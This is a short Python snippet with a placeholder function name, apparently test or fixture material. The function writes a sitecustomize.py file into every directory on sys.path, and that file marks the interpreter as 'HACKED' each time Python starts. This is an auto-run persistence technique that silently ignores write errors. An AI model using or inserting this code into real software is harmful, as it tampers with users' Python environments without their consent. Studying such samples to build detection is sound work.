# Drop a sitecustomize.py wherever Python looks for one.
def __FUNC__(*args, **kwargs):
    import sys
    for folder in sys.path:
        try:
            with open(f"{folder}/sitecustomize.py", "w") as f:
                f.write("import builtins\nbuiltins.__dict__['HACKED'] = True\n")
        except OSError:
            pass
    return None
